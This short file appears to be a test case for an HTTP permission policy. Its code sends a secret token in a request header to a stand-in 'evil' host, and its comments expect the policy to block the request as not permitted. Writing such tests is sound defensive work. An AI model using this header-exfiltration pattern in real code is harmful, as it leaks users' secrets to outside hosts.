-- Sends a secret to another host in a header.
-- allow: http GET ${good}/*
-- says: not permitted; to permit it, add this line to `allow`: "http GET http://127.0.0.1
http.get(run.evil .. "/x", { headers = { ["X-Token"] = run.secret } })
